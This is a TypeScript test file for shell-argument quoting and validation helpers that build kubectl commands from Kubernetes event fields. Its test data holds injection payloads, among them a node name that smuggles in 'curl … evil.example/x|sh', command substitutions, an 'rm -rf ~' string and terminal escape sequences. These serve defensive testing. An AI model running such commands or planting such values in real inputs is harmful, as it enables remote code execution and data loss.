import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { shellArg, shellCommand, shellQuote } from './shell.js';
import type { ShellRole } from './shell.js';

/** words runs `printf` in a real POSIX shell (dash as /bin/sh) over `args`, returning the words it received. */
function words(args: string): string[] {
  const out = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${args}`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

const HOSTILE = [
  'node-1;curl -fsSL https://evil.example/x|sh;#',
  'a|b',
  'a&b',
  '$(touch /tmp/pwned)',
  '`id`',
  "it's",
  '"double"',
  "'; rm -rf ~; '",
  'a b',
  '*',
  '~root',
  '$HOME',
  '${IFS}',
  'x>y',
  '<pod>',
  '\\',
  '-n',
  '--kubeconfig=/tmp/evil',
  '=x',
  '',
];

void test('shellQuote gives one word that a POSIX shell reads back as the value', () => {
  for (const value of [...HOSTILE, 'plain', 'web-7d4b9c8f5-x2x7k', 'a.b:c,d/e@f%g+h=i_j', 'naïve ✓']) {
    assert.deepEqual(words(shellQuote(value)), [value], JSON.stringify(value));
  }
});

void test('shellQuote leaves inert words bare and quotes the rest', () => {
  const cases: [string, string][] = [
    ['web-0', 'web-0'],
    ['kube-system', 'kube-system'],
    ['a;b', "'a;b'"],
    ["it's", "'it'\\''s'"],
    ['', "''"],
    ['~x', "'~x'"],
    ['$(id)', "'$(id)'"],
  ];
  for (const [input, want] of cases) assert.equal(shellQuote(input), want, JSON.stringify(input));
});

void test('shellArg returns valid names for their role and a placeholder with a reason for the rest', () => {
  const accepted: [string, ShellRole, string][] = [
    ['web-7d4b9c8f5-x2x7k', 'pod', 'web-7d4b9c8f5-x2x7k'],
    ['ip-10-0-1-2.ec2.internal', 'node', 'ip-10-0-1-2.ec2.internal'],
    ['kube-system', 'namespace', 'kube-system'],
    ['app', 'container', 'app'],
    ['my.config', 'name', 'my.config'],
    ['ReplicaSet', 'kind', 'ReplicaSet'],
    ['8080', 'port', '8080'],
    ['http-metrics', 'port', 'http-metrics'],
    ['Back-off restarting failed container', 'text', "'Back-off restarting failed container'"],
    ["reason=it's", 'text', "'reason=it'\\''s'"],
    ['$(id)', 'text', "'$(id)'"],
  ];
  for (const [value, role, arg] of accepted) assert.deepEqual(shellArg(value, role), { ok: true, arg }, `${role} ${value}`);

  const refused: [string | undefined, ShellRole, string][] = [
    ['node-1;curl -fsSL https://evil.example/x|sh;#', 'node', 'is not a DNS-1123 subdomain'],
    ['web$(id)', 'pod', 'is not a DNS-1123 subdomain'],
    ['`id`', 'pod', 'is not a DNS-1123 subdomain'],
    ["it's", 'pod', 'is not a DNS-1123 subdomain'],
    ['Web', 'pod', 'is not a DNS-1123 subdomain'],
    ['-n', 'pod', 'is not a DNS-1123 subdomain'],
    ['a'.repeat(254), 'node', 'is not a DNS-1123 subdomain'],
    ['team.a', 'namespace', 'is not a DNS-1123 label'],
    ['app|sh', 'container', 'is not a DNS-1123 label'],
    ['a'.repeat(64), 'container', 'is not a DNS-1123 label'],
    ['Pod;id', 'kind', 'is not a Kind'],
    ['0', 'port', 'is neither a port number'],
    ['65536', 'port', 'is neither a port number'],
    ['80;id', 'port', 'is neither a port number'],
    ['line\nnext', 'text', 'holds control, newline or invisible characters'],
    ['tab\there', 'text', 'holds control, newline or invisible characters'],
    ['\x1b]52;c;ZWNobyBldmls\x07', 'text', 'holds control, newline or invisible characters'],
    ['csi\x9b2J', 'text', 'holds control, newline or invisible characters'],
    ['rtl\u202eexe', 'text', 'holds control, newline or invisible characters'],
    ['zero\u200bwidth', 'text', 'holds control, newline or invisible characters'],
    ['web\n', 'pod', 'holds control, newline or invisible characters'],
    ['x'.repeat(1025), 'text', 'is longer than 1024 bytes'],
    ['--kubeconfig=/tmp/evil', 'text', "starts with '-'"],
    [undefined, 'pod', 'the events do not name the pod name'],
    ['', 'node', 'the events do not name the node name'],
  ];
  for (const [value, role, reason] of refused) {
    const got = shellArg(value, role);
    assert.equal(got.ok, false, `${role} ${JSON.stringify(value)}`);
    assert.equal(got.arg, `<${role}>`);
    assert.ok(!got.ok && got.why.includes(reason), `${JSON.stringify(value)}: ${!got.ok ? got.why : ''}`);
    assert.ok(!got.ok && !/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/.test(got.why), `why stays one clean line: ${JSON.stringify(got)}`);
    assert.ok(!got.ok && got.why.length < 240, 'why repeats a refused value cut short');
  }
});

void test('every argument shellArg accepts is one word reading back as the value', () => {
  const roles: ShellRole[] = ['pod', 'node', 'namespace', 'container', 'name', 'kind', 'port', 'text'];
  for (const value of [...HOSTILE, 'web-0', 'Pod', '443']) {
    for (const role of roles) {
      const got = shellArg(value, role);
      if (got.ok) assert.deepEqual(words(got.arg), [value], `${role} ${JSON.stringify(value)}`);
    }
  }
});

void test('shellCommand writes accepted values as their argument and gathers why each placeholder stands', () => {
  const pod = shellArg('web-0', 'pod');
  const ns = shellArg('team a', 'namespace');
  const node = shellArg('n1;id', 'node');
  const got = shellCommand`kubectl logs ${pod} -n ${ns} --field-selector=spec.nodeName=${node} # again ${ns}`;
  assert.equal(got.command, 'kubectl logs web-0 -n <namespace> --field-selector=spec.nodeName=<node> # again <namespace>');
  assert.deepEqual(got.refused, [
    `the namespace "team a" is not a DNS-1123 label (at most 63 of a-z, 0-9 and '-')`,
    `the node name "n1;id" is not a DNS-1123 subdomain (at most 253 of a-z, 0-9, '-' and '.')`,
  ]);
  assert.deepEqual(shellCommand`kubectl get events -n ${shellArg('kube-system', 'namespace')}`, { command: 'kubectl get events -n kube-system', refused: [] });
});

void test('shellCommand takes commands built by itself as parts, with their reasons', () => {
  const flag = (c: string | undefined) => (c === undefined ? shellCommand`` : shellCommand` -c ${shellArg(c, 'container')}`);
  assert.deepEqual(shellCommand`kubectl logs web-0${flag(undefined)} --previous`, { command: 'kubectl logs web-0 --previous', refused: [] });
  assert.deepEqual(shellCommand`kubectl logs web-0${flag('app')} --previous`, { command: 'kubectl logs web-0 -c app --previous', refused: [] });
  const bad = shellCommand`kubectl logs ${shellArg('w;x', 'pod')}${flag('a|b')}`;
  assert.equal(bad.command, 'kubectl logs <pod> -c <container>');
  assert.equal(bad.refused.length, 2);
});
